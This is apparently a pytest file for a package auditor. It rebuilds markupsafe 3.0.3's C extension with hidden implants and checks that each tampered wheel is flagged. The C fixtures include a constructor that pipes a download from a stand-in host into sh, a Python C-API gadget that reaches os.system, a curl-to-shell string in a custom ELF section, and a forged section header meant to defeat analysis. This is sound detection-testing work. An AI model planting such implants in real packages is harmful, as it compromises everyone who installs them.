"""A real extension module recompiled from the same sdist with one hidden addition (markupsafe 3.0.3 from
PyPI; its _speedups.c compiled on this host with gcc and an added C file, put into the real cp311 manylinux
wheel with RECORD kept true, as an attacker with upload rights would): a constructor that runs a command,
one that opens a socket, one that calls dlopen, and an added URL string alone; and issue 45's three ways around
the interface check: the constructor behind a forged section header table, a shell command run through the
Python C API alone, a command string in a section of its own. Served from a local index and
rebuilt in the container, each is `differs`, naming the member and what it adds; the real wheel beside
them is `partial` with its module interface-verified."""

from __future__ import annotations

import subprocess
import sysconfig
import tarfile
from datetime import datetime, timezone
from pathlib import Path

import pytest

from tests.conftest import PYPI
from tests.fixtureindex import lock_line, retag_wheel
from tests.test_interface import ADDED
from tests.test_toolchain import _pypi_files

UP = datetime(2025, 9, 27, tzinfo=timezone.utc)
MODULE = "markupsafe/_speedups.cpython-311-x86_64-linux-gnu.so"
CONSTRUCTOR_SYSTEM = r"""#include <stdlib.h>
__attribute__((constructor)) static void markupsafe_init_cache(void) {
  if (getenv("MARKUPSAFE_NEVER")) system("curl -s https://example.invalid/x | sh"); }"""
CONSTRUCTOR_SOCKET = ADDED["socket"] + "\n__attribute__((constructor)) static void warm(void) { if (0) phone_home(); }\n"
# issue 45, case 2: PyInit_ runs a shell command through the Python C API alone (no libc capability imported)
C_API_SYSTEM = r"""
static PyObject *markupsafe_warm(void) {
  PyObject *subs = PyObject_CallMethod((PyObject *)&PyBaseObject_Type, "__subclasses__", NULL);
  for (Py_ssize_t i = 0; subs && i < PyList_Size(subs); i++) {
    PyObject *init = PyObject_GetAttrString(PyList_GetItem(subs, i), "__init__");
    PyObject *g = init ? PyObject_GetAttrString(init, "__globals__") : NULL;
    PyObject *sys = (g && PyDict_Check(g)) ? PyDict_GetItemString(g, "system") : NULL;
    PyErr_Clear();
    if (sys) return PyObject_CallFunction(sys, "s", "id"); }
  return NULL; }
"""
# issue 45, case 3: the strings kept in a section of their own, which only .rodata/.data readers missed
CUSTOM_SECTION = r"""
__attribute__((used, section(".ms_cfg"))) static const char markupsafe_cfg[] =
  "curl -s https://updates.example-cdn.xyz/stage2 | sh";
const char *markupsafe_where(void) { return markupsafe_cfg; }
"""


def forge_section_headers(so: bytes) -> bytes:
    """Issue 45, case 1: e_shstrndx set to a bogus index. The dynamic loader never reads it (the module still loads
    and runs its constructor); a reader of section headers cannot parse the file."""
    out = bytearray(so)
    out[0x3E:0x40] = (0xFFF0).to_bytes(2, "little")
    return bytes(out)


VARIANTS = {  # platform tag of the tampered copy -> the C added to _speedups.c, what the verdict must name, and
    # what is done to the compiled module afterwards
    "manylinux_2_28_x86_64": (CONSTRUCTOR_SYSTEM, ["constructor", "imports system"], None),
    "manylinux_2_31_x86_64": (CONSTRUCTOR_SOCKET, ["imports socket", "imports connect"], None),
    "manylinux_2_34_x86_64": (ADDED["dlopen"], ["imports dlopen"], None),
    "linux_x86_64": (ADDED["url"], ["https://updates.example-cdn.xyz/payload.bin"], None),
    "manylinux_2_35_x86_64": (CONSTRUCTOR_SYSTEM, ["constructor", "imports system"], forge_section_headers),
    "manylinux_2_36_x86_64": (C_API_SYSTEM, ["imports PyObject_CallMethod", "imports PyObject_GetAttrString",
                                             "imports PyObject_CallFunction"], None),
    "manylinux_2_30_x86_64": (CUSTOM_SECTION, ["https://updates.example-cdn.xyz/stage2"], None),
}


def include_dir() -> Path:
    for d in (Path("/usr/include/python3.11"), Path(sysconfig.get_paths()["include"])):
        if (d / "Python.h").exists() and d.name == "python3.11":
            return d
    pytest.skip("no Python 3.11 headers on this host (scripts/setup.sh installs python3-dev)")


def test_recompiled_modules_with_hidden_additions_differ_and_the_real_one_does_not(tmp_path, index, auditor,
                                                                                   container_backend):
    files = _pypi_files("markupsafe", "3.0.3")
    sdist = next(n for n in files if n.endswith(".tar.gz"))
    real = next(n for n in files if "cp311-cp311-manylinux" in n and "x86_64" in n)
    for n in (sdist, real):
        (tmp_path / n).write_bytes(files[n])
    with tarfile.open(tmp_path / sdist) as tar:
        member = next(m for m in tar.getmembers() if m.name.endswith("src/markupsafe/_speedups.c"))
        source = tar.extractfile(member).read()
    inc = include_dir()
    out = tmp_path / "tampered"
    out.mkdir()
    hashes = [index.add("markupsafe", tmp_path / sdist, UP), index.add("markupsafe", tmp_path / real, UP)]
    names = {}
    for platform, (extra, _, after) in VARIANTS.items():
        c = tmp_path / f"{platform}.c"
        code = source + b"\n#include <stdlib.h>\n" + extra.encode() + b"\n"
        if "markupsafe_warm" in extra:  # PyInit__speedups runs it, as the attacker did
            code = code.replace(b"#include <Python.h>\n", b"#include <Python.h>\nstatic PyObject *markupsafe_warm(void);\n", 1)
            code = code.replace(b"\treturn PyModuleDef_Init(", b"\tmarkupsafe_warm();\n\treturn PyModuleDef_Init(")
        c.write_bytes(code)
        so = tmp_path / f"{platform}.so"
        subprocess.run(["gcc", "-shared", "-fPIC", "-O2", f"-I{inc}", str(c), "-o", str(so)], check=True,
                       capture_output=True)
        if after is not None:
            so.write_bytes(after(so.read_bytes()))
        wheel = retag_wheel(tmp_path / real, out, platform, lambda m, so=so: m.__setitem__(MODULE, so.read_bytes()))
        names[platform] = wheel.name
        hashes.append(index.add("markupsafe", wheel, UP))
    lock = tmp_path / "requirements.txt"
    lock.write_text(lock_line("markupsafe", "3.0.3", *hashes))
    r = auditor("check", str(lock), "--index-url", index.url, "--build-index-url", PYPI, "--backend", container_backend)
    assert "Traceback" not in r.stderr
    by = {w["filename"]: w for w in r.package("markupsafe")["wheels"]}
    for platform, (_, words, _after) in VARIANTS.items():
        w = by[names[platform]]
        assert w["verdict"] == "differs" and w["check"] == "rebuilt-binary", (platform, w["reason"])
        (d,) = [d for d in w["differences"] if d["path"] == MODULE]
        assert d["cls"] == "code" and all(x in d["detail"] for x in words), (platform, d["detail"])
        assert MODULE in w["reason"]
    honest = by[real]
    assert honest["verdict"] == "partial" and honest["verified"]["interface"] == 1, honest
    assert "glibc-merged-libraries" in honest["normalizations"] and "with the rebuild's interface" in honest["reason"]
    assert r.code == 1
    # the three counts per wheel in the report and summary.md, as in results.json
    page = (r.report_dir / "index.html").read_text()
    v = honest["verified"]
    assert f'<td class="verified">{v["bytes"]} / {v["normalized"]} / 1 / {v["not_verified"]}</td>' in page
    assert "bytes / normalized / interface / not verified" in (r.report_dir / "summary.md").read_text()
